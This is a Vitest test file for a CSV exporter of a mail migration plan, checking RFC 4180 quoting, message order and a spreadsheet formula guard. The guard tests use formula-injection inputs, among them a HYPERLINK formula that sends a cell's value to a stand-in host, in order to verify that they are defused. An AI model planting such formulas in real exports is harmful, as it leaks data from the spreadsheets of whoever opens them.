import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, quote, renderPlanCsv, textField } from '../../src/report/plan-csv.js';
import type { PlanReport } from '../../src/report/plan-types.js';

const small = (): PlanReport =>
  JSON.parse(readFileSync(new URL('../../fixtures/plans/small.json', import.meta.url), 'utf8')) as PlanReport;

/** A strict RFC 4180 reader, to prove the output parses back to the same fields. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        const q = text.indexOf('"', i);
        if (q === -1) throw new Error('unterminated quote');
        field += text.slice(i, q);
        i = q + 1;
        if (text[i] === '"') {
          field += '"';
          i++;
        } else break;
      }
    } else {
      const m = /^[^,\r\n"]*/.exec(text.slice(i))![0];
      field = m;
      i += m.length;
    }
    row.push(field);
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
  }
  return rows;
}

describe('renderPlanCsv', () => {
  it('writes a header and one CRLF-terminated row per message', () => {
    const csv = renderPlanCsv(small());
    const rows = parseCsv(csv);
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows.length).toBe(7);
    for (const r of rows) expect(r.length).toBe(CSV_COLUMNS.length);
    expect(csv.endsWith('\r\n')).toBe(true);
    // The only bare LF is the one inside message 3's quoted subject.
    expect(csv.replace(/\r\n/g, '').match(/\n/g)).toHaveLength(1);
  });

  it('renders exact rows: quoting, flags, nulls as empty, formula guard', () => {
    const lines = renderPlanCsv(small()).split('\r\n');
    expect(lines[1]).toBe(
      '1,u1,2048,new,INBOX,,\\Seen,status-header,2023-05-01T10:00:00+02:00,received,"Hello, ""world""",Bob ' +
        '<bob@example.org>,<1@example.org>,,',
    );
    expect(lines[2]).toBe(
      '2,u2,20000,already-copied,Archive/2022,by-year,\\Seen ' +
        "\\Answered,older-than:30d,2022-12-31T23:30:00-05:00,date,'=SUM(A1:A9),'@mallory,<2@example.org>,,",
    );
    expect(lines[3]).toBe(
      '3,\'-u3,52428800,would-fail,INBOX,,,,,copy-time,"multi\nline | pipe",,,too big for the server: its ' +
        'APPENDLIMIT is 35 MiB,',
    );
    expect(lines[4]).toContain(",'+1 for this,");
  });

  it('lists messages in POP3 order whatever the report order', () => {
    const r = small();
    r.messages.reverse();
    expect(
      parseCsv(renderPlanCsv(r))
        .slice(1)
        .map((row) => row[0]),
    ).toEqual(['1', '2', '3', '4', '5', '6']);
  });

  it('quotes per RFC 4180', () => {
    expect(quote('plain')).toBe('plain');
    expect(quote('a,b')).toBe('"a,b"');
    expect(quote('say "hi"')).toBe('"say ""hi"""');
    expect(quote('cr\rhere')).toBe('"cr\rhere"');
    expect(quote('lf\nhere')).toBe('"lf\nhere"');
    expect(quote('')).toBe('');
  });

  it('defuses spreadsheet formulas in text fields', () => {
    expect(textField('=1+1')).toBe("'=1+1");
    expect(textField('+49 30 1234')).toBe("'+49 30 1234");
    expect(textField('-2')).toBe("'-2");
    expect(textField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(textField('\t=1')).toBe("'\t=1");
    expect(textField('=HYPERLINK("http://x/?"&A1,"a")')).toBe('"\'=HYPERLINK(""http://x/?""&A1,""a"")"');
    expect(textField('a=b')).toBe('a=b');
    expect(textField(null)).toBe('');
  });
});
